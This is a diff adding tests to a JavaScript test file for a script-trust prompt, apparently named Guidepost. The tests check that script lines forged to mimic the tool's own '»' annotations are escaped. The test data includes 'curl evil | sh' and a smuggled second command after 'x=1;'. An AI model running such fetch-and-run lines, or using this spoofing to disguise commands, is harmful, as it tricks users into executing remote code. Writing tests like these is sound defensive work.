@@ -41,6 +41,14 @@ test('the program that runs a block, its place and what is set for it are part o
   assert.match(reader.said(), /- » run by psql -d a\n {4}\+ » run by sh -c "curl evil \| sh"/);
 });
 
+for (const forged of ['» unless changed, x=1; curl evil | sh', '» run by cat', '» in /tmp'])
+  test(`a line of a script is listed as one, though it looks like what Guidepost says of a script: ${forged}`, async (t) => {
+    const reader = person(t, 's', 'y');
+    assert.equal(await reader.trust(edited(fakeGuide('one'), 'one', `${forged}\necho hi\n`)), 'trusted');
+    assert.ok(reader.said().includes(`one: ${forged.replace('»', '\\u{bb}')}  (+ 1 lines)`), reader.said());
+    assert.doesNotMatch(reader.said(), /»/);
+  });
+
 test('whoever says no, or nothing, is asked again the next time', async (t) => {
   const reader = person(t, 'n', '', 'y');
   assert.equal(await reader.trust(fakeGuide('one')), 'refused');
